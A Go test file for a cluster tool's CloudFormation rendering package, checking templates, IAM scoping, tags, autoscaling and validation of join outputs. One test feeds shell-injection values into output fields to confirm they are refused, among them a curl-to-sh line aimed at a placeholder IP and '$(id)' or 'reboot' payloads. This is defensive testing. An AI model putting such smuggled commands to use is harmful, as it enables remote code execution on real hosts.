package render

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/clusterctl/clusterctl/internal/names"
	"github.com/clusterctl/clusterctl/internal/spec"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

var testJoin = Join{
	ClusterName:            "prod",
	BucketName:             "prod-bucket-1a2b3c4d5e6f",
	ControlSecurityGroupId: "sg-0c0c0c0c0c0c0c0c0",
	AgentSecurityGroupId:   "sg-0a0a0a0a0a0a0a0a0",
	AgentInstanceProfile:   "arn:aws:iam::123456789012:instance-profile/prod-AgentInstanceProfile-ABCDEF",
	VpcId:                  "vpc-0123456789abcdef0",
	SubnetIds:              []string{"subnet-0000000000000000a", "subnet-0000000000000000b"},
	ManagersKey:            names.ManagersKey,
	ContractVersion:        ContractVersion,
	LogGroupName:           "/clusterctl/prod",
	LogDriver:              names.LogDriverAWSLogs,
	EngineVersion:          "25.0.8",
}

const testVersion = "1.2.3"

// joinWithPublicSubnets is testJoin of a core on a network.
func joinWithPublicSubnets() Join {
	j := testJoin
	j.PublicSubnetIds = []string{"subnet-0000000000000000c", "subnet-0000000000000000d"}
	return j
}

// testAgents are the node agents' hashes every test render pins.
var testAgents = map[string]string{"amd64": strings.Repeat("a", 64), "arm64": strings.Repeat("b", 64)}

// build is a render's Build for clusterctl version v with testAgents.
func build(v string) Build { return Build{Version: v, Agents: testAgents} }

type variant struct {
	name    string
	cluster string
	core    *spec.Core
	group   *spec.Group
	join    Join
}

func (v variant) render() (*Rendered, error) { return v.renderWith(build(testVersion)) }

func (v variant) renderWith(b Build) (*Rendered, error) {
	if v.core != nil {
		return Core(v.cluster, *v.core, b)
	}
	return Group(v.cluster, *v.group, v.join, b)
}

// launchTemplate is the logical id of the variant's launch template.
func (v variant) launchTemplate() string {
	if v.core != nil {
		return names.ResourceControlLaunchTemplate
	}
	return names.ResourceLaunchTemplate
}

func intp(n int) *int { return &n }

// variants are the rendered forms covered by golden files, lint and the
// structural checks.
func variants() []variant {
	vs := coreAndGroupVariants()
	for _, v := range vs {
		if v.core != nil && v.core.Operators == nil {
			// As create-core resolves them: the creator's role.
			v.core.Operators = []string{operatorRole}
		}
	}
	return vs
}

func coreAndGroupVariants() []variant {
	return []variant{
		{name: "core-default", cluster: "prod", core: &spec.Core{
			InstanceType: "t3.medium", VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds,
		}},
		{name: "core-ssh-key-ami", cluster: "prod", core: &spec.Core{
			Operators:    []string{operatorRole, operatorUser, "arn:aws:iam::" + testAccount + ":role/aws-reserved/sso.amazonaws.com/eu-west-1/AWSReservedSSO_Admin_0123456789abcdef"},
			InstanceType: "m5.large", ImageID: "ami-0abcdef1234567890", KeyName: "ops", SSHCIDR: "203.0.113.0/24",
			VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds, VolumeSize: intp(50), Managers: intp(3),
			LogRetentionDays: intp(90), LogKMSKey: "arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab", LogDriver: names.LogDriverNone,
		}},
		{name: "core-ssm-graviton", cluster: "arm", core: &spec.Core{
			InstanceType: "c7gn.large", ImageID: "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-6.1-arm64",
			VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds, Managers: intp(5),
		}},
		{name: "group-default", cluster: "prod", join: testJoin, group: &spec.Group{
			Name: "c5-agents", InstanceType: spec.InstanceTypes{"c5.xlarge"}, Count: intp(2), Min: intp(2), Max: intp(4), VolumeSize: intp(30),
		}},
		// "a b" is no valid label (spec refuses it); it shows that render
		// quotes whatever it is given for the shell.
		{name: "group-labels-own-subnets-arm", cluster: "prod", join: testJoin, group: &spec.Group{
			Name: "r7g-agents", InstanceType: spec.InstanceTypes{"r7g.large"}, Count: intp(3), Min: intp(1), Max: intp(3), VolumeSize: intp(100),
			Labels:    spec.Labels{"instancetype": "r7g", "role": "worker", "zone": "a b"},
			SubnetIDs: []string{"subnet-0000000000000000c"}, SSHCIDR: "198.51.100.7/32",
			RollingUpdate: spec.RollingUpdate{MaxBatch: intp(2), MinInService: intp(1)},
			ImageID:       "ami-0123456789abcdef0", KeyName: "ops",
		}},
		{name: "group-offline", cluster: "prod", group: &spec.Group{
			Name: "c5-agents", InstanceType: spec.InstanceTypes{"c5.xlarge"}, Count: intp(1), Min: intp(1), Max: intp(1), VolumeSize: intp(30),
		}},
		// Mixed groups: several types on demand, one type on spot, and
		// several Graviton types on spot with an on-demand share.
		{name: "group-multi-type", cluster: "prod", join: testJoin, group: &spec.Group{
			Name: "general", InstanceType: spec.InstanceTypes{"m5.large", "m5a.large", "m6i.large"}, Count: intp(3),
		}},
		{name: "group-spot", cluster: "prod", join: testJoin, group: &spec.Group{
			Name: "batch", InstanceType: spec.InstanceTypes{"c5.large"}, Spot: true, Count: intp(4),
		}},
		{name: "group-spot-mixed", cluster: "prod", join: testJoin, group: &spec.Group{
			Name: "arm-spot", InstanceType: spec.InstanceTypes{"m7g.large", "m6g.large", "c7g.xlarge"}, Spot: true,
			OnDemandBase: intp(1), OnDemandPercent: intp(25), SpotAllocation: spec.SpotCapacityOptimized,
			Count: intp(6), Max: intp(12), Labels: spec.Labels{"role": "batch"},
		}},
		// Load balancers: internet-facing with TLS ending at it, and
		// internal (allowed from the VPC by default) with a UDP port, a
		// node port of its own and access logs.
		{name: "group-lb", cluster: "prod", join: testJoin, group: &spec.Group{
			Name: "web", InstanceType: spec.InstanceTypes{"m5.large"}, Count: intp(2),
			Publish: spec.Ports{"80", "443/tls"}, Certificate: testCertificate,
		}},
		{name: "group-lb-internal", cluster: "prod", join: lbJoin, group: &spec.Group{
			Name: "dns", InstanceType: spec.InstanceTypes{"c5.large"}, Spot: true, Count: intp(3),
			Publish: spec.Ports{"53/udp", "8080:30080", "8443:30080/tls"}, LoadBalancer: spec.SchemeInternal,
			Certificate: testCertificate, DeregistrationDelay: intp(120), AccessLogs: "prod-lb-logs",
		}},
		{name: "group-lb-allow-from", cluster: "prod", join: testJoin, group: &spec.Group{
			Name: "api", InstanceType: spec.InstanceTypes{"m5.large"}, Count: intp(2),
			Publish: spec.Ports{"443:30443", "8443"}, AllowFrom: []string{"203.0.113.0/24", "198.51.100.0/24"},
		}},
		// The operator's own tags, with characters JSON must escape.
		{name: "core-tags", cluster: "prod", core: &spec.Core{
			InstanceType: "t3.medium", VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds,
			Tags: spec.Tags{"cost-center": "4711", "owner": "Jane \"JD\" Doe"},
		}},
		// Declared secrets of both kinds: the managers may read them.
		{name: "core-secrets", cluster: "prod", core: &spec.Core{
			InstanceType: "t3.medium", VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds,
			Secrets: spec.Secrets{
				{Name: "db_password", From: "arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/db-AbC123", Key: "password"},
				{Name: "api_token", From: "ssm:/prod/api/token"},
			},
		}},
		// An autoscaled spot group: no DesiredCapacity, the tags the
		// leader's autoscaler reads.
		{name: "group-autoscale", cluster: "prod", join: testJoin, group: &spec.Group{
			Name: "elastic", InstanceType: spec.InstanceTypes{"m5.large", "m5a.large"}, Spot: true, Min: intp(1), Max: intp(5),
			Autoscale: spec.Autoscale{Enabled: true, ScaleDownAfter: spec.Duration(20 * time.Second)},
		}},
		{name: "group-tags", cluster: "prod", join: testJoin, group: &spec.Group{
			Name: "tagged", InstanceType: spec.InstanceTypes{"m5.large"}, Count: intp(2), Labels: spec.Labels{"role": "web"},
			Tags: spec.Tags{"cost-center": "4711", "team": "payments"},
		}},
		// A core joined to a network: its private subnets for the nodes,
		// its public ones for internet-facing load balancers.
		{name: "core-network", cluster: "prod", core: &spec.Core{
			InstanceType: "t3.medium", Network: "prod", VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds,
			PublicSubnetIDs: []string{"subnet-0000000000000000c", "subnet-0000000000000000d"},
		}},
		// A group of a core on a network: its internet-facing load
		// balancer in the network's public subnets.
		{name: "group-lb-network", cluster: "prod", join: joinWithPublicSubnets(), group: &spec.Group{
			Name: "web", InstanceType: spec.InstanceTypes{"t3.small"}, Publish: spec.Ports{"80", "443"},
		}},
		// Public IPs, asked for: nodes in public subnets.
		{name: "core-public-ips", cluster: "prod", core: &spec.Core{
			InstanceType: "t3.medium", VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds, PublicIPs: true,
		}},
		{name: "group-public-ips", cluster: "prod", join: testJoin, group: &spec.Group{
			Name: "edge", InstanceType: spec.InstanceTypes{"t3.small"}, PublicIPs: true, SSHCIDR: "203.0.113.0/24",
		}},
		// The alarms: off, notifying an e-mail address (a topic of the
		// core), notifying an existing topic.
		{name: "core-alarms-off", cluster: "prod", core: &spec.Core{
			InstanceType: "t3.medium", VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds, Alarms: names.AlarmsOff,
		}},
		{name: "core-notify-email", cluster: "prod", core: &spec.Core{
			InstanceType: "t3.medium", VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds, Managers: intp(3), Notify: "ops@example.com",
		}},
		{name: "core-notify-topic", cluster: "prod", core: &spec.Core{
			InstanceType: "t3.medium", VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds,
			Notify: "arn:aws:sns:eu-west-1:123456789012:ops-pager",
		}},
	}
}

// An autoscaled group's template leaves DesiredCapacity to the autoscaler
// (CloudFormation would set it back on every update) and tags its Auto
// Scaling group with the scale-down delay and the instance types; a group
// of a fixed count has its capacity and no autoscale tag.
func TestAutoscaleTemplate(t *testing.T) {
	asg := func(name string) (props map[string]any, tags map[string]string) {
		for _, v := range variants() {
			if v.name != name {
				continue
			}
			r, err := v.render()
			if err != nil {
				t.Fatal(err)
			}
			var tmpl struct {
				Resources map[string]struct{ Properties map[string]any }
			}
			if err := json.Unmarshal(r.Template, &tmpl); err != nil {
				t.Fatal(err)
			}
			props = tmpl.Resources[names.ResourceAutoScalingGroup].Properties
			tags = map[string]string{}
			for _, x := range props["Tags"].([]any) {
				m := x.(map[string]any)
				if s, ok := m["Value"].(string); ok && m["PropagateAtLaunch"] == false {
					tags[m["Key"].(string)] = s
				}
			}
			return props, tags
		}
		t.Fatalf("no variant %s", name)
		return nil, nil
	}
	props, tags := asg("group-autoscale")
	if _, ok := props["DesiredCapacity"]; ok {
		t.Error("an autoscaled group's template sets DesiredCapacity")
	}
	if tags[names.TagAutoscale] != "20s" || tags[names.TagInstanceTypes] != "m5.large,m5a.large" {
		t.Errorf("tags %v", tags)
	}
	props, tags = asg("group-default")
	if _, ok := props["DesiredCapacity"]; !ok {
		t.Error("a fixed group's template has no DesiredCapacity")
	}
	if _, ok := tags[names.TagAutoscale]; ok || tags[names.TagInstanceTypes] != "c5.xlarge" {
		t.Errorf("tags %v", tags)
	}
}

// The operator's tags are on the stack (CloudFormation puts them on its
// taggable resources) and in the launch template's tag specifications,
// so that every instance and volume carries them from its launch.
func TestCustomTags(t *testing.T) {
	for _, v := range variants() {
		want := map[string]string{}
		lt := "LaunchTemplate"
		if v.core != nil {
			maps.Copy(want, v.core.Tags)
			lt = "ControlLaunchTemplate"
		} else {
			maps.Copy(want, v.group.Tags)
		}
		t.Run(v.name, func(t *testing.T) {
			r, err := v.render()
			if err != nil {
				t.Fatal(err)
			}
			for k, val := range want {
				if r.Tags[k] != val {
					t.Errorf("stack tag %s = %q, want %q", k, r.Tags[k], val)
				}
			}
			specs := map[string]map[string]string{}
			for _, ts := range list(dig(decode(t, r.Template), "Resources", lt, "Properties", "LaunchTemplateData", "TagSpecifications")) {
				tags := map[string]string{}
				for _, tag := range list(obj(ts)["Tags"]) {
					tags[obj(tag)["Key"].(string)] = obj(tag)["Value"].(string)
				}
				specs[obj(ts)["ResourceType"].(string)] = tags
			}
			for _, res := range []string{"instance", "volume"} {
				for k, val := range want {
					if specs[res][k] != val {
						t.Errorf("%s tag %s = %q, want %q", res, k, specs[res][k], val)
					}
				}
			}
			if len(want) == 0 && len(specs["instance"]) > 0 && v.group != nil && len(v.group.Labels) == 0 {
				t.Errorf("instance tags without labels or tags: %v", specs["instance"])
			}
		})
	}
}

const testCertificate = "arn:aws:acm:eu-west-1:123456789012:certificate/0a1b2c3d-0000-1111-2222-333344445555"

// lbJoin is testJoin with the VPC's CIDR, which an internal load balancer
// allows by default.
var lbJoin = func() Join { j := testJoin; j.VpcCidr = "10.0.0.0/16"; return j }()

// stackMeta is everything of a Rendered but the template and the artifact
// bodies, for golden files.
type stackMeta struct {
	StackName    string
	Parameters   map[string]string
	Tags         map[string]string
	Capabilities []string
	Artifacts    []string `json:",omitempty"`
}

func TestGolden(t *testing.T) {
	for _, v := range variants() {
		t.Run(v.name, func(t *testing.T) {
			r, err := v.render()
			if err != nil {
				t.Fatal(err)
			}
			var arts []string
			for _, a := range r.Artifacts {
				arts = append(arts, a.Key)
			}
			meta, err := json.MarshalIndent(stackMeta{r.StackName, r.Parameters, r.Tags, r.Capabilities, arts}, "", "  ")
			if err != nil {
				t.Fatal(err)
			}
			// Indented for review; the body itself is compact.
			var pretty bytes.Buffer
			if err := json.Indent(&pretty, bytes.TrimSpace(r.Template), "", "  "); err != nil {
				t.Fatal(err)
			}
			golden(t, v.name+".golden.json", append(pretty.Bytes(), '\n'))
			golden(t, v.name+".stack.golden.json", append(meta, '\n'))
			// The loader, as the node receives it.
			golden(t, v.name+".userdata.golden.sh", []byte(resolvedUserData(t, r, v.launchTemplate())))
		})
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./internal/render -update)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the rendered output; review the change and run go test ./internal/render -update", path)
	}
}

func TestDeterministic(t *testing.T) {
	for _, v := range variants() {
		a, err := v.render()
		if err != nil {
			t.Fatal(err)
		}
		for range 3 {
			b, err := v.render()
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(a.Template, b.Template) {
				t.Fatalf("%s: two renders differ", v.name)
			}
		}
		if !bytes.HasSuffix(a.Template, []byte("}\n")) || bytes.HasSuffix(a.Template, []byte("\n\n")) {
			t.Errorf("%s: template does not end in exactly one newline", v.name)
		}
		var compact bytes.Buffer
		if err := json.Compact(&compact, bytes.TrimSpace(a.Template)); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(append(compact.Bytes(), '\n'), a.Template) {
			t.Errorf("%s: template is not compact JSON", v.name)
		}
	}
}

func TestDefaultImageParameter(t *testing.T) {
	const x86, arm = "x86_64", "arm64"
	for _, tc := range []struct{ typ, arch string }{
		{"t3.micro", x86}, {"m5.large", x86}, {"c5n.18xlarge", x86}, {"g4dn.xlarge", x86},
		{"g5.2xlarge", x86}, {"p4d.24xlarge", x86}, {"m7i-flex.large", x86}, {"r7iz.large", x86},
		{"x2iedn.xlarge", x86}, {"inf2.xlarge", x86}, {"m5zn.large", x86}, {"u-6tb1.metal", x86},
		{"gr6.4xlarge", x86}, {"d3en.xlarge", x86}, {"", x86},
		{"a1.medium", arm}, {"m6g.large", arm}, {"m7g.medium", arm}, {"c7gn.large", arm},
		{"r8g.xlarge", arm}, {"t4g.nano", arm}, {"x2gd.large", arm}, {"im4gn.large", arm},
		{"is4gen.large", arm}, {"c6gd.large", arm}, {"g5g.xlarge", arm}, {"hpc7g.4xlarge", arm},
		{"M7G.Large", arm}, {"i8g.large", arm},
	} {
		want := "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-" + tc.arch
		if got := DefaultImageParameter(tc.typ); got != want {
			t.Errorf("DefaultImageParameter(%q) = %q, want %q", tc.typ, got, want)
		}
	}
}

func TestImageParameters(t *testing.T) {
	def := DefaultImageParameter("t3.small")
	for _, tc := range []struct {
		image, param, id string
		wantErr          bool
	}{
		{"", def, "", false},
		{"ami-12345678", def, "ami-12345678", false},
		{"ami-0123456789abcdef0", def, "ami-0123456789abcdef0", false},
		{"/my/images/node", "/my/images/node", "", false},
		{"my-image", "", "", true}, // refused by spec before; never rendered
	} {
		param, id, err := imageParameters(tc.image, "t3.small")
		if (err != nil) != tc.wantErr || param != tc.param || id != tc.id {
			t.Errorf("imageParameters(%q) = %q, %q, %v", tc.image, param, id, err)
		}
	}
}

func TestJoinFromOutputs(t *testing.T) {
	full := testJoin.Outputs()
	full["ControlInstanceId"] = "i-0123" // extra outputs are fine
	j, err := JoinFromOutputs(full)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := j.Outputs(), testJoin.Outputs(); !maps.Equal(got, want) {
		t.Errorf("round trip: got %v, want %v", got, want)
	}
	if !slices.Equal(j.SubnetIds, testJoin.SubnetIds) {
		t.Errorf("SubnetIds = %q", j.SubnetIds)
	}

	for _, tc := range []struct {
		name    string
		drop    []string
		blank   []string
		missing string
	}{
		{name: "one", drop: []string{"BucketName"}, missing: "BucketName"},
		{name: "several in contract order", drop: []string{"ContractVersion", "ClusterName", "SubnetIds"}, missing: "ClusterName, SubnetIds, ContractVersion"},
		{name: "empty counts as missing", blank: []string{"AgentInstanceProfile", "VpcId"}, missing: "AgentInstanceProfile, VpcId"},
		{name: "all", drop: names.JoinOutputs(), missing: strings.Join(names.JoinOutputs(), ", ")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			outs := testJoin.Outputs()
			for _, k := range tc.drop {
				delete(outs, k)
			}
			for _, k := range tc.blank {
				outs[k] = " "
			}
			_, err := JoinFromOutputs(outs)
			if err == nil || !strings.HasSuffix(err.Error(), "missing: "+tc.missing) {
				t.Errorf("error = %v, want one naming %s", err, tc.missing)
			}
		})
	}

	// A core of contract 1 (its control node pinned, no ManagersKey) is
	// told apart from a broken one: it can be upgraded.
	v1 := testJoin.Outputs()
	delete(v1, names.OutputManagersKey)
	v1[names.OutputContractVersion], v1[names.OutputControlPrivateIP] = "1", "10.0.1.10"
	var ce *ContractError
	if _, err := JoinFromOutputs(v1); !errors.As(err, &ce) || ce.Core != "1" || ce.Want != ContractVersion || !ce.Older() {
		t.Errorf("contract 1 core: %v", err)
	}
	if ContractOlder("3", ContractVersion) || ContractOlder("x", "2") || !ContractOlder("1", "2") {
		t.Error("ContractOlder")
	}

	j, err = JoinFromOutputs(mergeMap(testJoin.Outputs(), map[string]string{"SubnetIds": "subnet-0aaa1111, subnet-0bbb2222,"}))
	if err != nil || !slices.Equal(j.SubnetIds, []string{"subnet-0aaa1111", "subnet-0bbb2222"}) {
		t.Errorf("SubnetIds with spaces: %q, %v", j.SubnetIds, err)
	}
}

// A join value that does not have the shape of what it names is refused,
// naming the output: it would reach root shell code on every node.
func TestJoinFromOutputsRefusesTamperedValues(t *testing.T) {
	for _, tc := range []struct{ output, value string }{
		{"ClusterName", "prod; reboot"},
		{"BucketName", "Prod_Bucket"},
		{"BucketName", "b$(id)"},
		{"ManagersKey", "join/swarm/managers'; curl http://203.0.113.9/x | sh; : '"},
		{"ManagersKey", "join/swarm/$(id)"},
		{"ControlSecurityGroupId", "sg-0c0c0c0c `id`"},
		{"AgentSecurityGroupId", "sg-xyz"},
		{"AgentInstanceProfile", "arn:aws:iam::123456789012:instance-profile/x'$(id)"},
		{"AgentInstanceProfile", "prod-agents"},
		{"VpcId", "vpc-0123\n"},
		{"SubnetIds", "subnet-0aaa1111,subnet-0bbb2222 && reboot"},
		// One character over each length bound.
		{"ClusterName", "c" + strings.Repeat("a", 128)},
		{"ManagersKey", "j" + strings.Repeat("k", 1001)},
		{"AgentInstanceProfile", "arn:aws:iam::123456789012:instance-profile/" + strings.Repeat("p", 513)},
	} {
		outs := mergeMap(testJoin.Outputs(), map[string]string{tc.output: tc.value})
		_, err := JoinFromOutputs(outs)
		var oe *OutputError
		if !errors.As(err, &oe) || oe.Output != tc.output || !strings.Contains(err.Error(), "core output "+tc.output+" is ") {
			t.Errorf("%s = %q: %v, want an *OutputError naming it", tc.output, tc.value, err)
		}
	}
	for _, ok := range []map[string]string{
		{"AgentInstanceProfile": "arn:aws-cn:iam::123456789012:instance-profile/path/to/p+1"},
		{"BucketName": "core-bucket-0a1b2c.d"},
		{"ControlSecurityGroupId": "sg-12345678"},
		// Each length bound itself.
		{"ClusterName": "c" + strings.Repeat("a", 127)},
		{"ManagersKey": "j" + strings.Repeat("k", 1000)},
		{"AgentInstanceProfile": "arn:aws:iam::123456789012:instance-profile/" + strings.Repeat("p", 512)},
	} {
		if _, err := JoinFromOutputs(mergeMap(testJoin.Outputs(), ok)); err != nil {
			t.Errorf("%v refused: %v", ok, err)
		}
	}
}

func TestParametersMatchTemplate(t *testing.T) {
	// Parameters that may legitimately be empty when deployed.
	optional := map[string]bool{"ImageId": true, "KeyName": true, "SshCidr": true, "AccessLogsBucket": true, "LogKmsKey": true,
		"NotifyEmail": true, "NotifyTopicArn": true, "Network": true, "PublicSubnetIds": true}
	for _, v := range variants() {
		r, err := v.render()
		if err != nil {
			t.Fatal(err)
		}
		doc := decode(t, r.Template)
		declared := keys(obj(doc["Parameters"]))
		if got := keys(r.Parameters); !slices.Equal(got, declared) {
			t.Errorf("%s: parameters %v, template declares %v", v.name, got, declared)
		}
		for k, val := range r.Parameters {
			if val == "" && !optional[k] && v.name != "group-offline" {
				t.Errorf("%s: parameter %s is empty", v.name, k)
			}
		}
	}
	r, err := variants()[5].render()
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range names.JoinOutputs() {
		if r.Parameters[k] != "" {
			t.Errorf("offline group: join parameter %s = %q, want empty", k, r.Parameters[k])
		}
	}
}

func TestCoreContent(t *testing.T) {
	for _, v := range variants() {
		if v.core == nil {
			continue
		}
		t.Run(v.name, func(t *testing.T) {
			r, err := v.render()
			if err != nil {
				t.Fatal(err)
			}
			doc := decode(t, r.Template)
			res := obj(doc["Resources"])

			outs := obj(doc["Outputs"])
			for _, name := range names.JoinOutputs() {
				if _, ok := outs[name]; !ok {
					t.Errorf("output %s missing", name)
				}
			}
			if got := dig(outs, "ContractVersion", "Value"); got != ContractVersion {
				t.Errorf("ContractVersion output = %v", got)
			}
			if got := dig(outs, "AgentInstanceProfile", "Value", "Fn::GetAtt"); !jsonEqual(got, []any{"AgentInstanceProfile", "Arn"}) {
				t.Errorf("AgentInstanceProfile output = %v, want the profile's ARN", got)
			}

			bucket := resourcesOfType(res, "AWS::S3::Bucket")
			if len(bucket) != 1 {
				t.Fatalf("%d buckets", len(bucket))
			}
			b := bucket[0]
			for _, k := range []string{"BlockPublicAcls", "BlockPublicPolicy", "IgnorePublicAcls", "RestrictPublicBuckets"} {
				if dig(b, "Properties", "PublicAccessBlockConfiguration", k) != true {
					t.Errorf("bucket %s not true", k)
				}
			}
			if dig(b, "Properties", "BucketEncryption", "ServerSideEncryptionConfiguration") == nil {
				t.Error("bucket without encryption")
			}
			if dig(b, "Properties", "VersioningConfiguration", "Status") != "Enabled" {
				t.Error("bucket versioning not enabled")
			}
			// Retained: the managers write to it until they are gone;
			// delete-core deletes it after the stack.
			if b["DeletionPolicy"] != "Retain" || b["UpdateReplacePolicy"] != "Retain" {
				t.Errorf("bucket DeletionPolicy = %v, UpdateReplacePolicy = %v", b["DeletionPolicy"], b["UpdateReplacePolicy"])
			}
			// The managers' own termination notices still reach the queue
			// when the stack is deleted: the rule and the queue's policy go
			// after the managers; the managers start with their right to
			// write to the log group.
			if deps := obj(res[names.ResourceManagerGroup])["DependsOn"]; !jsonEqual(deps, []any{"LifecycleRule", "LifecycleQueuePolicy", "LogsPolicy"}) {
				t.Errorf("managers' group DependsOn %v", deps)
			}
			tlsOnly := false
			for _, p := range resourcesOfType(res, "AWS::S3::BucketPolicy") {
				for _, s := range list(dig(p, "Properties", "PolicyDocument", "Statement")) {
					st := obj(s)
					if st["Effect"] == "Deny" && st["Action"] == "s3:*" && st["Principal"] == "*" &&
						dig(st, "Condition", "Bool", "aws:SecureTransport") == "false" && len(list(st["Resource"])) == 2 {
						tlsOnly = true
					}
				}
			}
			if !tlsOnly {
				t.Error("no bucket policy statement denying non-TLS access to bucket and objects")
			}
			checkJoinMaterialPolicy(t, res)

			// Both roles are managed by Systems Manager (Session Manager
			// instead of SSH), through their own policy: no managed one
			// (see TestNodeRolesSystemsManager).
			for _, role := range []string{"ControlRole", "AgentRole"} {
				if arns := dig(res, role, "Properties", "ManagedPolicyArns"); arns != nil {
					t.Errorf("%s managed policies %v, want none", role, arns)
				}
			}

			// Agents may only read the join material and the swarm's
			// status, and tag the cluster's instances with what they are.
			tags := 0
			for _, s := range list(dig(res, "AgentRole", "Properties", "Policies")) {
				for _, st := range list(dig(s, "PolicyDocument", "Statement")) {
					st := obj(st)
					if st["Sid"] == ssmAgentSid {
						continue // TestNodeRolesSystemsManager
					}
					switch act := st["Action"]; act {
					case "s3:GetObject":
						if r := dig(st, "Resource", "Fn::Sub"); r != "${Bucket.Arn}/join/*" && r != "${Bucket.Arn}/status/swarm.json" {
							t.Errorf("agents read %v", st["Resource"])
						}
					case "s3:PutObject":
						// Only its own interruption confirmation, named by its
						// session (TestInterruptionConfirmationWrites).
						if r := dig(st, "Resource", "Fn::Sub"); r != "${Bucket.Arn}/"+names.InterruptionPrefix+"/${!aws:userid}" {
							t.Errorf("agents write %v", st["Resource"])
						}
					case "s3:ListBucket":
						if !jsonEqual(dig(st, "Condition", "StringLike", "s3:prefix"), []any{"join/*", "status/swarm.json"}) {
							t.Errorf("agents list beyond join/: %v", st["Condition"])
						}
					case "ec2:CreateTags":
						tags++
						if dig(st, "Resource", "Fn::Sub") != "arn:${AWS::Partition}:ec2:${AWS::Region}:${AWS::AccountId}:instance/*" ||
							dig(st, "Condition", "StringEquals", "aws:ResourceTag/"+names.TagCluster) != v.cluster ||
							!jsonEqual(dig(st, "Condition", "ForAllValues:StringEquals", "aws:TagKeys"), []any{names.TagInstanceType, names.TagLifecycle, names.TagZone}) ||
							len(obj(st["Condition"])) != 2 {
							t.Errorf("agents tag beyond their cluster's instances and what a node is: %v", st)
						}
					default:
						t.Errorf("agents may %v", act)
					}
				}
			}
			if tags != 1 {
				t.Errorf("%d statements let agents tag their instances, want 1", tags)
			}

			if _, ok := res[names.ResourceControlInstance]; ok {
				t.Error("a bare control instance: the managers are an Auto Scaling group")
			}
			checkManagerGroup(t, doc, v.cluster)
			ud := userDataOf(t, res, names.ResourceControlLaunchTemplate)
			if !strings.Contains(ud, "--resource ManagerGroup ") {
				t.Error("control user data does not signal ManagerGroup")
			}
			// No output pins a manager: nothing an agent group receives
			// changes when a manager is replaced.
			for name, o := range outs {
				if b := string(mustJSON(t, o)); strings.Contains(b, "PrivateIp") || strings.Contains(b, "AWS::EC2::Instance") {
					t.Errorf("output %s names an instance: %s", name, b)
				}
			}
			if got := dig(outs, names.OutputManagersKey, "Value"); got != names.ManagersKey {
				t.Errorf("ManagersKey output = %v", got)
			}

			checkNodeSecurity(t, res)
			if !slices.Equal(r.Capabilities, []string{"CAPABILITY_IAM"}) {
				t.Errorf("capabilities %v", r.Capabilities)
			}
			want := map[string]string{names.TagCluster: v.cluster, names.TagRole: names.RoleCore, names.TagGroup: names.GroupControl, names.TagVersion: testVersion}
			maps.Copy(want, v.core.Tags)
			if v.core.Network != "" {
				want[names.TagNetwork] = v.core.Network // the network's users are found by it
			}
			if !maps.Equal(r.Tags, want) {
				t.Errorf("stack tags %v, want %v", r.Tags, want)
			}
			if r.StackName != v.cluster {
				t.Errorf("stack name %q", r.StackName)
			}
		})
	}
}

func TestGroupContent(t *testing.T) {
	for _, v := range variants() {
		if v.group == nil {
			continue
		}
		t.Run(v.name, func(t *testing.T) {
			g := v.group
			r, err := v.render()
			if err != nil {
				t.Fatal(err)
			}
			doc := decode(t, r.Template)
			res := obj(doc["Resources"])
			for id, x := range res {
				if typ, _ := obj(x)["Type"].(string); strings.HasPrefix(typ, "AWS::IAM::") {
					t.Errorf("group template has IAM resource %s", id)
				}
			}
			if len(r.Capabilities) != 0 {
				t.Errorf("capabilities %v", r.Capabilities)
			}
			outs := obj(doc["Outputs"])
			for _, k := range []string{"AutoScalingGroupName", "LaunchTemplateId"} {
				if _, ok := outs[k]; !ok {
					t.Errorf("output %s missing", k)
				}
			}
			if len(resourcesOfType(res, "AWS::AutoScaling::LaunchConfiguration")) > 0 {
				t.Error("launch configuration used")
			}

			asg := obj(res["AutoScalingGroup"])
			checkPurchase(t, doc, r, g)
			if dig(asg, "CreationPolicy", "ResourceSignal", "Timeout") != "PT10M" ||
				dig(asg, "CreationPolicy", "ResourceSignal", "Count", "Ref") != "DesiredCapacity" {
				t.Errorf("ASG creation policy %v", asg["CreationPolicy"])
			}
			roll := obj(dig(asg, "UpdatePolicy", "AutoScalingRollingUpdate"))
			if roll["WaitOnResourceSignals"] != true || roll["PauseTime"] != "PT10M" ||
				dig(roll, "MaxBatchSize", "Ref") != "MaxBatchSize" || dig(roll, "MinInstancesInService", "Ref") != "MinInstancesInService" {
				t.Errorf("rolling update policy %v", roll)
			}
			name := names.GroupStack(v.cluster, g.Name)
			var asgTags []any
			asgLabels := map[string]string{}
			for _, tg := range list(dig(asg, "Properties", "Tags")) {
				key, _ := obj(tg)["Key"].(string)
				if strings.HasPrefix(key, names.TagLabelPrefix) {
					// Labels are listed on the group for inventory; nodes
					// get them from the launch template, so a label change
					// rolls them.
					if obj(tg)["PropagateAtLaunch"] != false {
						t.Errorf("ASG label tag %v propagated", tg)
					}
					asgLabels[strings.TrimPrefix(key, names.TagLabelPrefix)], _ = obj(tg)["Value"].(string)
